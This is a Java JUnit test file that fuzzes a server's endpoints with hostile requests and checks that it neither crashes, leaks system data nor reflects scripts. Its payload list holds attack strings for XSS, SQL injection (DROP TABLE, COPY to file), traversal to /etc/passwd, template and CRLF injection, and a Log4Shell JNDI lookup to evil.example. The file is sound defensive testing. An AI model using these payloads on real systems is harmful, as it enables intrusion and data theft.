package org.casus.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What must never happen, whatever is sent: a fault of the program, a page with the sender's words in it, a server that is gone. */
class HostileRequestsTest {
    private static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' OR '1'='1",
            "1; DROP TABLE event; --",
            "' UNION SELECT body FROM article --",
            "'); COPY event TO '/tmp/x.csv'; --",
            "read_csv('/etc/passwd')",
            "../../../../etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "\u0000",
            "\r\nSet-Cookie: a=b",
            "\uFFFF\u202E",
            "%s%n%x",
            "a".repeat(5_000));
    private static final Pattern STATUS = Pattern.compile("^HTTP/1\\.1 (\\d{3}) ");
    private static final Pattern REPEAT = Pattern.compile("⟦([^⟧]*)\\*(\\d+)⟧");

    private static TestServer server;

    private record Attack(String name, List<String> allowed, String bytes) {
        @Override
        public String toString() {
            return name;
        }
    }

    @BeforeAll
    static void start() throws IOException {
        server = TestServer.start();
    }

    @AfterAll
    static void stop() throws IOException {
        assertThat(server.json("/api/summary").get("events").asInt())
                .as("events of the samples, untouched")
                .isEqualTo(29);
        assertThat(server.log()).as("faults").isEmpty();
        server.close();
    }

    @AfterEach
    void isStillThere() {
        assertThat(server.get("/health").body()).isEqualTo("{\"status\":\"ok\"}");
    }

    static Stream<Attack> attacks() throws IOException {
        try (InputStream in = HostileRequestsTest.class.getResourceAsStream("hostile.tsv")) {
            List<Attack> attacks = new String(in.readAllBytes(), StandardCharsets.UTF_8)
                    .lines()
                    .filter(line -> !line.startsWith("#"))
                    .map(HostileRequestsTest::attack)
                    .toList();
            assertThat(attacks).hasSizeGreaterThan(150);
            return attacks.stream();
        }
    }

    private static Attack attack(String line) {
        String[] cells = line.split("\t", -1);
        List<String> allowed = Arrays.asList(cells[1].split(","));
        if (cells[2].equals("RAW")) {
            return new Attack(cells[0], allowed, cells[3]);
        }
        String headers = cells[4].isEmpty() ? "" : cells[4] + "\\r\\n";
        String body = cells[5];
        String length = cells[2].equals("POST") ? "Content-Length: {length}\\r\\n" : "";
        return new Attack(
                cells[0],
                allowed,
                cells[2] + " " + cells[3] + " HTTP/1.1\\r\\nHost: localhost:{port}\\r\\nConnection: close\\r\\n"
                        + headers + length + "\\r\\n" + body);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void answersWithinBounds(Attack attack) throws IOException {
        // a request that is whole gets its answer, however busy the machine; of a broken one silence is an answer too
        int patience = attack.allowed().contains("-") ? 2_000 : 60_000;
        String answer = server.raw(bytes(attack.bytes()), patience);
        check(attack.name(), attack.allowed(), answer);
    }

    @Test
    void noParameterIsAWayIn() throws IOException {
        int sent = 0;
        for (Endpoint endpoint : server.server.endpoints()) {
            if (endpoint.path().equals("/api/samples") || endpoint.path().equals("/api/stream")) {
                continue;
            }
            for (Parameter<?> parameter : endpoint.parameters()) {
                for (String payload : PAYLOADS) {
                    String encoded = URLEncoder.encode(payload, StandardCharsets.UTF_8);
                    String path = parameter.in() == Parameter.In.PATH
                            ? endpoint.path().replace("{" + parameter.name() + "}", encoded.replace("+", "%20"))
                            : endpoint.path() + "?" + parameter.name() + "=" + encoded;
                    String target = path.replaceAll("\\{\\w+\\}", "x");
                    String body = endpoint.method().equals("POST") ? "France condemned Iran." : "";
                    String answer = server.raw(endpoint.method() + " " + target + " HTTP/1.1\r\nHost: localhost:"
                            + server.port() + "\r\nConnection: close\r\nContent-Type: text/plain\r\nContent-Length: "
                            + body.length() + "\r\n\r\n" + body);
                    check(target, List.of("200", "400", "404", "414", "431"), answer);
                    sent++;
                }
            }
        }
        assertThat(sent).isGreaterThan(1_500);
    }

    private static void check(String name, List<String> allowed, String answer) {
        Matcher status = STATUS.matcher(answer);
        String got = status.find() ? status.group(1) : "-";
        assertThat(allowed).as(name + ": " + clip(answer)).contains(got);
        String head = answer.split("\r\n\r\n", 2)[0].toLowerCase(Locale.ROOT);
        boolean isPage = head.contains("content-type: text/html");
        assertThat(isPage && answer.contains("alert(")).as(name).isFalse();
        assertThat(answer).as(name).doesNotContain("\tat org.", "Exception", "root:x:0", "jdbc");
        assertThat(head).as(name).doesNotContain("set-cookie:");
        if (!got.equals("-") && !got.equals("100") && Integer.parseInt(got) >= 400) {
            assertThat(head)
                    .as(name)
                    .contains("content-type: application/problem+json", "x-content-type-options: nosniff");
        }
    }

    private static String clip(String text) {
        return text.length() < 1_500 ? text : text.substring(0, 1_500);
    }

    private static byte[] bytes(String written) {
        String text = REPEAT.matcher(written)
                .replaceAll(found -> Matcher.quoteReplacement(found.group(1).repeat(Integer.parseInt(found.group(2)))));
        text = text.replace("{port}", "" + server.port());
        int body = text.indexOf("{length}");
        if (body >= 0) {
            String after = text.substring(text.indexOf("\\r\\n\\r\\n", body) + "\\r\\n\\r\\n".length());
            text = text.replace("{length}", "" + unescaped(after).length);
        }
        return unescaped(text);
    }

    private static byte[] unescaped(String text) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream(text.length());
        int i = 0;
        while (i < text.length()) {
            char c = text.charAt(i++);
            if (c != '\\') {
                bytes.writeBytes(String.valueOf(c).getBytes(StandardCharsets.UTF_8));
                continue;
            }
            char escaped = text.charAt(i++);
            switch (escaped) {
                case 'r' -> bytes.write('\r');
                case 'n' -> bytes.write('\n');
                case 't' -> bytes.write('\t');
                case 'x' -> {
                    bytes.write(Integer.parseInt(text.substring(i, i + 2), 16));
                    i += 2;
                }
                default -> bytes.write(escaped);
            }
        }
        return bytes.toByteArray();
    }
}
